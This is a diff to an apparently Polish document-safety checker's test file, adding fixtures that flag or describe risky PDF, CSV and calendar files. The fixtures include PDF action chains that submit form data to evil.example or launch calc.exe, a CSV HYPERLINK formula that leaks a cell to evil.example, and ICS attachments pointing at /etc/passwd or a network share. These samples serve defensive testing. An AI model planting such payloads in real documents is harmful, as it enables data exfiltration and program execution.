@@ -21,6 +21,9 @@ JAN = "Jan Przykładny"
 PESELS = ("00010100008", "02210100008")
 MACRO = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1VBA"
 OPEN_LAUNCH = b"/OpenAction<</S/Launch/F(cmd.exe)>>"
+JUMP = b"<</S/GoTo/D[3 0 R/Fit]/Next %s>>"
+SENDS = b"<</S/SubmitForm/F(https://evil.example/)>>"
+ICS = b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nUID:1\r\n%s\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
 A_LINK = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A%s>>]"
 
 
@@ -178,6 +181,16 @@ ACTIVE_PDF = [
     bad("pdf_xfa", "a.pdf", "form_program", lambda: pdf(b"/AcroForm<</Fields[]/XFA 9 0 R>>", b"", make.stream_of(b"<xdp/>"))),
     bad("pdf_by_itself", "a.pdf", "automatic_actions", lambda: pdf(b"", b"/AA<</O<</S/Named/N/Print>>>>")),
     bad("pdf_prints", "a.pdf", "automatic_actions", lambda: pdf(b"/OpenAction<</S/Named/N/Print>>")),
+    bad("pdf_t18_sends_after_a_jump", "a.pdf", "chained_actions", lambda: pdf(b"", A_LINK % (JUMP % b"<</S/SubmitForm/F(https://evil.example/)>>"))),
+    bad("pdf_t18_sends_at_the_end_of_a_chain", "a.pdf", "chained_actions", lambda: pdf(b"", A_LINK % (JUMP % (JUMP % (JUMP % SENDS))))),
+    bad("pdf_t18_sends_from_an_array", "a.pdf", "chained_actions", lambda: pdf(b"", A_LINK % (JUMP % (b"[%s [%s]]" % (JUMP % b"null", SENDS))))),
+    bad("pdf_t18_sends_from_elsewhere", "a.pdf", "chained_actions", lambda: pdf(b"", A_LINK % (JUMP % b"9 0 R"), b"[10 0 R]", b"<</S 11 0 R/F(https://evil.example/)>>", b"/SubmitForm")),
+    bad("pdf_t18_sends_from_an_outline", "a.pdf", "chained_actions", lambda: pdf(b"/Outlines<</First 9 0 R>>", b"", b"<</Title(x)/A %s>>" % (JUMP % SENDS))),
+    bad("pdf_t18_opens_a_share_after_a_jump", "a.pdf", "chained_actions", lambda: pdf(b"", A_LINK % (JUMP % b"<</S/GoToR/F(\\\\\\\\evil\\\\x.pdf)>>"))),
+    bad("pdf_t18_sends_when_opened", "a.pdf", "automatic_actions", lambda: pdf(b"/OpenAction%s" % (JUMP % SENDS))),
+    bad("pdf_t18_in_a_ring", "a.pdf", "chained_actions", lambda: pdf(b"", A_LINK % b"9 0 R", b"<</S/GoTo/D[3 0 R/Fit]/Next 10 0 R>>", b"<</S/SubmitForm/F(x)/Next 9 0 R>>")),
+    bad("pdf_t18_starts_after_a_jump", "a.pdf", "launch", lambda: pdf(b"", A_LINK % (JUMP % b"<</S/Launch/F(calc.exe)>>"))),
+    bad("pdf_kind_told_elsewhere", "a.pdf", "launch", lambda: pdf(b"", A_LINK % b"<</S 9 0 R/F(calc.exe)>>", b"/Launch")),
     bad("pdf_film", "a.pdf", "active_content", lambda: pdf(b"", b"/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]")),
     bad("pdf_password", "a.pdf", "password", lambda: make.protected_pdf(user="haslo")),
     bad("pdf_and_zip", "a.pdf", "polyglot", lambda: pdf() + make.packed({"x.exe": b"MZ"})),
@@ -208,6 +221,15 @@ TAKEN = [
     good("pdf_described_figure", "a.pdf", lambda: pdf(element=b"<</Type/StructElem/S/Figure/P 7 0 R/K 0/Alt(Mapa)>>")),
     good("pdf_table", "a.pdf", lambda: pdf(element=b"<</Type/StructElem/S/Table/P 7 0 R/K[]>>"), "tables_without_header"),
     good("pdf_no_extraction", "a.pdf", lambda: make.protected_pdf(permissions=-4 & ~0b10000 & ~0b1000000000), "no_extraction"),
+    good("pdf_t26_copying_forbidden", "a.pdf", lambda: make.protected_pdf(permissions=-4 & ~0b10000), "copying_forbidden", verdict="accessible"),
+    good("csv_t19_formula", "lista.csv", lambda: b'imie;kwota\n=HYPERLINK("http://evil.example/?"&A1;"klik");1\n', hidden="formulas", verdict=PLAIN),
+    good("csv_t19_formula_quoted", "lista.csv", lambda: b'imie,kwota\nAnna,"=1+1"\nJan,@SUM(A1)\nEwa,+A1\nIda,-HYPERLINK(1)\n', hidden="formulas", verdict=PLAIN),
+    good("csv_numbers", "lista.csv", lambda: b"imie;kwota;telefon\nAnna;-12,50;+48 600 700 800\nJan;-;+5%\nadres;a@example.org;- nie\n", verdict=PLAIN),
+    good("ics_t19_file", "spotkanie.ics", lambda: ICS % b"ATTACH;FMTTYPE=text/plain:file:///etc/passwd", hidden="calendar_files", verdict=PLAIN),
+    good("ics_t19_file_folded", "spotkanie.ics", lambda: ICS % b"ATT\r\n ACH:fi\r\n le:///c:/x", hidden="calendar_files", verdict=PLAIN),
+    good("ics_t19_share", "spotkanie.ics", lambda: ICS % b"ATTACH:\\\\\\\\evil\\\\x", hidden="calendar_files", verdict=PLAIN),
+    good("ics_t19_program", "spotkanie.ics", lambda: ICS % b"BEGIN:VALARM\r\nACTION:PROCEDURE\r\nEND:VALARM", hidden="calendar_programs", verdict=PLAIN),
+    good("ics_plain", "spotkanie.ics", lambda: ICS % b"ATTACH:https://example.org/a.pdf\r\nURL:https://example.org/", verdict=PLAIN),
     good("pdf_protected_readable", "a.pdf", lambda: make.protected_pdf()),
     good("pdf_author", "a.pdf", lambda: pdf(info=b"/Author(Jan Przykladny)"), hidden="author"),
     good("pdf_remark", "a.pdf", lambda: pdf(b"", b"/Annots[<</Type/Annot/Subtype/Text/Rect[0 0 9 9]/Contents(usunac!)>>]"), hidden="comments"),
@@ -215,6 +237,7 @@ TAKEN = [
     good("pdf_pesel", "a.pdf", lambda: pdf(text=f"PESEL {PESELS[0]}"), hidden="national_ids"),
     good("pdf_goes_to_page", "a.pdf", lambda: pdf(b"/OpenAction[3 0 R/Fit]")),
     good("pdf_goes_to_page_by_action", "a.pdf", lambda: pdf(b"/OpenAction<</S/GoTo/D[3 0 R/Fit]>>")),
+    good("pdf_jumps_twice", "a.pdf", lambda: pdf(b"", A_LINK % (JUMP % (JUMP % b"null")))),
     good("pdf_web_link", "a.pdf", lambda: pdf(b"", A_LINK % b"<</S/URI/URI(https://example.org/)>>")),
     good("pdf_local_link", "a.pdf", lambda: pdf(b"", A_LINK % b"<</S/URI/URI(file:///C:/Users/jan/a.pdf)>>"), hidden="local_links"),
     good("pdf_sends", "a.pdf", lambda: pdf(b"", A_LINK % b"<</S/SubmitForm/F(https://example.org/)>>"), hidden="sends_data"),
@@ -264,7 +287,7 @@ TAKEN = [
     good("txt", "czytaj.txt", lambda: "Zażółć gęślą jaźń".encode("cp1250"), verdict=PLAIN),
     good("txt_utf16", "czytaj.txt", lambda: "Zażółć".encode("utf-16"), verdict=PLAIN),
     good("txt_ministry", "czytaj.txt", lambda: b"MZ zaprasza na konsultacje.", verdict=PLAIN),
-    good("csv", "lista.csv", lambda: b"imie;kwota\nAnna;=SUM(1;2)\n", verdict=PLAIN),
+    good("csv", "lista.csv", lambda: b"imie;kwota\nAnna;=SUM(1;2)\n", hidden="formulas", verdict=PLAIN),
     good("csv_pesel", "lista.csv", lambda: f"Anna;{PESELS[1]}\n".encode(), hidden="national_ids", verdict=PLAIN),
     good("ics", "termin.ics", lambda: b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n", verdict=PLAIN),
     good("jpg", "plakat.jpg", make.picture, "picture"),
